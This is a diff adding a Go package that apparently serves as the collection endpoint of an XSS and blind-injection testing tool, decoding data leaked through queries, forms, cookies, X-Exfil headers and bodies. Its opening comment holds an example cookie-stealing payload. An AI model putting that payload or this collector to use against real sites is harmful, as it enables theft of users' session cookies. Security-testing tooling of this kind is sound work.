@@ -0,0 +1,210 @@
+// Package exfil collects the data XSS and blind injection payloads leak
+// through ordinary requests, like fetch('/x?d='+btoa(document.cookie)) or a
+// form post: query parameters, form fields, cookies, X-Exfil headers and raw
+// bodies, each with its encodings removed.
+package exfil
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"mime"
+	"net/http"
+	"sort"
+	"strings"
+)
+
+// Where items come from
+const (
+	FromQuery  = "query"
+	FromForm   = "form"
+	FromCookie = "cookie"
+	FromHeader = "header"
+	FromBody   = "body"
+	FromPath   = "path"
+)
+
+// headerPrefix names the headers that carry data, X-Exfil and X-Exfil-*
+const headerPrefix = "X-Exfil"
+
+// maxMemory is the part of multipart forms held in memory while parsing
+const maxMemory = 10 << 20
+
+// Item is one value leaked by a request
+type Item struct {
+	From     string // FromQuery, FromForm, ...
+	Name     string // Parameter, field, cookie or header name
+	Content  []byte // Decoded value
+	Encoding string // Encodings removed, e.g. "url+base64", empty when none
+	Raw      string // Value as sent, before decoding
+}
+
+// String describes the item without its content, e.g. "query d (base64)"
+func (i Item) String() string {
+	description := i.From
+	if i.Name != "" {
+		description += " " + i.Name
+	}
+	if i.Encoding != "" {
+		description += " (" + i.Encoding + ")"
+	}
+	return description
+}
+
+// Collect returns the items r carries, in the order query, form or body,
+// cookies and headers. Items from the path after the handler's prefix are
+// only taken when there are no others. Bodies are read in full, so limit
+// them beforehand.
+func Collect(r *http.Request, pathData string) ([]Item, error) {
+	var items []Item
+	add := func(from, name, value string) {
+		// Values sent as bare keys, like /x?aGVsbG8, have no name
+		if value == "" && from == FromQuery {
+			name, value = "", name
+		}
+		if value == "" {
+			return
+		}
+		content, encoding := Decode(value)
+		items = append(items, Item{From: from, Name: name, Content: content, Encoding: encoding, Raw: value})
+	}
+
+	query := r.URL.Query()
+	for _, name := range sortedKeys(query) {
+		for _, value := range query[name] {
+			add(FromQuery, name, value)
+		}
+	}
+
+	bodyItems, err := collectBody(r, add)
+	if err != nil {
+		return items, err
+	}
+	items = append(items, bodyItems...)
+
+	for _, cookie := range r.Cookies() {
+		add(FromCookie, cookie.Name, cookie.Value)
+	}
+	for _, name := range sortedKeys(r.Header) {
+		if name != headerPrefix && !strings.HasPrefix(name, headerPrefix+"-") {
+			continue
+		}
+		for _, value := range r.Header[name] {
+			add(FromHeader, name, value)
+		}
+	}
+
+	if len(items) == 0 && pathData != "" {
+		add(FromPath, "", pathData)
+	}
+	return items, nil
+}
+
+// collectBody adds the fields of form bodies through add and returns the
+// files of multipart forms and other bodies as they are, decoded
+func collectBody(r *http.Request, add func(from, name, value string)) ([]Item, error) {
+	if r.Body == nil || r.Body == http.NoBody {
+		return nil, nil
+	}
+	mediaType, _, _ := mime.ParseMediaType(r.Header.Get("Content-Type"))
+	switch mediaType {
+	case "application/x-www-form-urlencoded":
+		if err := r.ParseForm(); err != nil {
+			return nil, err
+		}
+		for _, name := range sortedKeys(r.PostForm) {
+			for _, value := range r.PostForm[name] {
+				add(FromForm, name, value)
+			}
+		}
+		return nil, nil
+
+	case "multipart/form-data":
+		if err := r.ParseMultipartForm(maxMemory); err != nil {
+			return nil, err
+		}
+		for _, name := range sortedKeys(r.MultipartForm.Value) {
+			for _, value := range r.MultipartForm.Value[name] {
+				add(FromForm, name, value)
+			}
+		}
+		// Files are kept as sent, they are not encoded text
+		var items []Item
+		for _, name := range sortedKeys(r.MultipartForm.File) {
+			for _, header := range r.MultipartForm.File[name] {
+				file, err := header.Open()
+				if err != nil {
+					return items, err
+				}
+				content, err := io.ReadAll(file)
+				file.Close()
+				if err != nil {
+					return items, err
+				}
+				items = append(items, Item{From: FromForm, Name: name, Content: content})
+			}
+		}
+		return items, nil
+	}
+
+	body, err := io.ReadAll(r.Body)
+	if err != nil {
+		return nil, err
+	}
+	if trimmed := bytes.TrimSpace(body); len(trimmed) > 0 {
+		content, encoding := Decode(string(trimmed))
+		return []Item{{From: FromBody, Content: content, Encoding: encoding, Raw: string(trimmed)}}, nil
+	}
+	return nil, nil
+}
+
+// Format returns the content saved for items: the content of a single
+// item sent as is, otherwise every item under a line describing it. Decoded
+// items are followed by their value as sent, in case decoding guessed wrong.
+func Format(items []Item) []byte {
+	if len(items) == 1 && items[0].Encoding == "" {
+		return items[0].Content
+	}
+	var b bytes.Buffer
+	for i, item := range items {
+		if i > 0 {
+			b.WriteString("\n")
+		}
+		writeSection(&b, item.String(), item.Content)
+		if item.Encoding != "" {
+			b.WriteString("\n")
+			writeSection(&b, item.String()+" as sent", []byte(item.Raw))
+		}
+	}
+	return b.Bytes()
+}
+
+// writeSection writes content under a line holding description
+func writeSection(b *bytes.Buffer, description string, content []byte) {
+	fmt.Fprintf(b, "[%s]\n", description)
+	b.Write(content)
+	if !bytes.HasSuffix(content, []byte("\n")) {
+		b.WriteString("\n")
+	}
+}
+
+// IsText reports whether the content saved for items is text
+func IsText(items []Item) bool {
+	for _, item := range items {
+		if !isText(item.Content) {
+			return false
+		}
+	}
+	return true
+}
+
+// sortedKeys returns the keys of a form, header or file map in order, so
+// items keep the same order between requests
+func sortedKeys[V any](m map[string]V) []string {
+	keys := make([]string, 0, len(m))
+	for key := range m {
+		keys = append(keys, key)
+	}
+	sort.Strings(keys)
+	return keys
+}